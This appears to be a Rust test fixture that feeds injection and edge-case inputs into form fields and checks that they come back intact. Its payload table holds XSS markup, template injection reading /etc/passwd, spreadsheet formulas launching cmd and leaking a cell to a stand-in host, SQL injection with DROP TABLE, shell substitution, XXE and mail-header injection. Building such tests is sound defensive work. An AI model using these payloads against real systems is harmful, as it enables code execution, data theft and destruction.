//! What is written into fields: texts that mean something to a browser, a spreadsheet, a calendar, a mail program, a
//! database or a template; characters that are no text; and numbers and days beyond what can be.

/// A text that is kept as it is. A mark stands before what is dangerous in it and another after, so that it is found
/// again wherever it is shown, and must be whole there.
#[derive(Clone, Debug)]
pub(super) struct Written {
    pub(super) number: usize,
    /// What it begins with, before the mark: a spreadsheet looks at the first character.
    lead: &'static str,
    body: String,
}

/// Letters that no id has.
const END: &str = "qh";

impl Written {
    fn mark(&self) -> String {
        format!("hq{:02}", self.number)
    }

    /// The whole text, for a field that holds so many letters.
    pub(super) fn text(&self) -> String {
        format!("{}{}{}{END}", self.lead, self.mark(), self.body)
    }

    /// Every place in something shown where this text begins, from there on.
    pub(super) fn places<'a>(&self, shown: &'a str) -> Vec<&'a str> {
        let mark = self.mark();
        shown.match_indices(&mark).map(|(at, _)| &shown[at + mark.len()..]).collect()
    }

    /// Whether what stands between the marks is what was written, but for line breaks and the case of a login.
    pub(super) fn is(&self, shown: &str) -> bool {
        folded(shown) == folded(&self.body)
    }

    /// Whether what stands somewhere is its beginning, and not all of it.
    pub(super) fn goes_on_after(&self, shown: &str) -> bool {
        let (body, shown) = (folded(&self.body), folded(shown));
        body.len() > shown.len() && body.starts_with(&shown)
    }

    /// Whether it goes on after its beginning with the same signs as something else does.
    pub(super) fn goes_on_with(&self, shown: &str, rest: &str) -> bool {
        let body = folded(&self.body);
        let own: String = body.get(folded(shown).len()..).unwrap_or_default().trim_start().chars().take(6).collect();
        folded(rest).starts_with(&own)
    }

    /// Whether what stands to the end is its beginning: a long value of a file is quoted in part.
    pub(super) fn begins_with(&self, shown: &str) -> bool {
        shown.len() > 20 && folded(&self.body).starts_with(&folded(shown))
    }
}

/// The part of a text before the mark at its end.
pub(super) fn whole(shown: &str) -> Option<&str> {
    Some(shown.split_once(END)?.0)
}

fn folded(text: &str) -> String {
    text.to_lowercase().split_whitespace().collect::<Vec<_>>().join(" ")
}

/// What a text begins with, and what is dangerous in it: with the marks, less than the hundred letters of the shortest
/// free field.
const BODIES: [(&str, &str); 24] = [
    ("", "\"'><script>window.hostile=1</script><img src=x onerror=window.hostile=1>"),
    ("", "\" onmouseover=\"window.hostile=1\" autofocus onfocus='window.hostile=1' style='x:y"),
    ("javascript:", "window.hostile=1//</a><svg/onload=window.hostile=1><a href=javascript:x>"),
    ("", "</textarea></title></option></select>--></style></template></script><!--<![CDATA["),
    ("", "{{ 7*7 }}{% include \"/etc/passwd\" %}${7*7}#{7*7}{# x #}<%= 7*7 %>"),
    ("", "{ $name }{ NUMBER(1) }{ -term }{\"quoted\"} .attr = x *[other] { $n -> }"),
    ("=", "1+cmd|' /C calc'!A0\";\"=1+1\",\"=1+1\";=1+1\t=1+1"),
    ("@", "SUM(1+1)*cmd|' /C calc'!A0;@SUM(1),@SUM(1)"),
    ("+", "1+HYPERLINK(\"https://elsewhere.example/?\"&A1;\"x\")"),
    ("-", "2+3+cmd|' /C calc'!A0,-1;-1"),
    ("\"=", "1+1\",=1+1,\"=1+1\";'=1+1"),
    ("'", "' OR 1=1; DROP TABLE vehicle; -- /* $1 ?1 :x @y \\' \\\""),
    ("", "%_\\%\\_[a-z]*?^$.|()%' ESCAPE '\\"),
    ("..\\..\\", "C:\\aux.txt/../../../etc/passwd%00.csv%0d%0aX-Injected: 1|`id`$(id)"),
    ("", "%%%2%zz%u0041&amp;lt;&#60;&#x3c;&lt;script&gt;+a=b&c=d#e?f&hellip"),
    ("", "]]><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;<?php ?>"),
    ("", "👨‍👩‍👧‍👦🇸🇪😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀😀"),
    ("", "Z\u{334}\u{335}\u{336}\u{337}\u{338}\u{321}\u{322}\u{327}\u{328}\u{31b}\u{316}\u{317}\u{318}\u{300}\u{302}x"),
    ("", ";,:\\n\\N\\;\\,\\\\nBEGIN:VEVENT^n^'\"SUMMARY;X=y:z"),
    ("", "\"} {\" #VER \"A\" 1 20261001 {\\\" #KONTO 1 \"x\" #TRANS 1 {} -1"),
    ("", "=?utf-8?Q?=0D=0ABcc:_nora@example.org?= , <a@b.c>; Bcc: d@e.f"),
    ("", "ab\u{200b}\u{feff}\u{2060}\u{ad}שלום عربي 𠮷𝄞\u{e000}\u{e0041}\u{fe0f}ﬁ"),
    ("", "x\r\nBcc: nora@example.org\r\nX-Injected: 1\r\n\r\nSUMMARY:y\r\nEND:VEVENT\r\n.\r\n#VER\tz"),
    ("", "\\u003cscript\\u003e\\x3cscript>\\\";window.hostile=1;//`${window.hostile=1}`"),
];

/// All texts that are kept.
pub(super) fn written() -> Vec<Written> {
    let of =
        |(number, (lead, body)): (usize, &(&'static str, &str))| Written { number, lead, body: (*body).to_owned() };
    BODIES.iter().enumerate().map(of).collect()
}

/// Characters that are no text (D-2), as JSON writes them: controls, directions, separators, halves and what is no
/// character.
pub(super) const SIGNS: [&str; 14] = [
    "\\u0000", "\\u0007", "\\u000b", "\\u001b", "\\u007f", "\\u0085", "\\u009b", "\\u202e", "\\u2066", "\\u2028",
    "\\ufdd0", "\\uffff", "\\ud800", "\\udc00x",
];

/// Numbers as JSON and as people write them.
pub(super) const NUMBERS: [&str; 14] = [
    "-9223372036854775808",
    "9223372036854775807",
    "9223372036854775808",
    "-1",
    "-0",
    "0",
    "0.5",
    "1e308",
    "1e400",
    "-1e-400",
    "2147483648",
    "\"NaN\"",
    "\"-Infinity\"",
    "\"١٢٣\"",
];

/// Days and times: at the ends of calendars, that do not exist, or that come twice or never when the clock changes.
pub(super) const DAYS: [&str; 20] = [
    "0001-01-01",
    "9999-12-31",
    "0000-01-01",
    "-0001-01-01",
    "+10000-01-01",
    "+262142-12-31",
    "2026-02-30",
    "2027-02-29",
    "2100-02-29",
    "2026-13-01",
    "2026-00-00",
    "0001-01-01T00:00:00+23:59",
    "9999-12-31T23:59:59-23:59",
    "2026-03-29T02:30:00",
    "2026-10-25T02:30:00",
    "2026-10-25T02:30",
    "2026-12-31T23:59:60Z",
    "2026-10-05T24:00:00Z",
    "1969-12-31T23:59:59.999999999Z",
    "2026-W10-1",
];
